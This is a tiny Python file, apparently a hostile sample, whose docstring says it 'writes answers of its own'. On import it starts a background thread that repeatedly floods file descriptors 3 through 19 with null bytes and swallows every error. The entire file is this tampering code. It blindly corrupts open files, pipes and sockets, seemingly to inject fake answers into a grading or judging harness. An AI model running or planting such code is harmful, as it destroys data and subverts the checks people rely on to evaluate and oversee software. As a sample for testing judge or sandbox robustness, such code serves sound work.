"""A thread that writes answers of its own."""

import os
import threading


def answer():
    while True:
        for number in range(3, 20):
            try:
                os.write(number, b"\0" * 16)
            except OSError:
                pass


threading.Thread(target=answer, daemon=True).start()
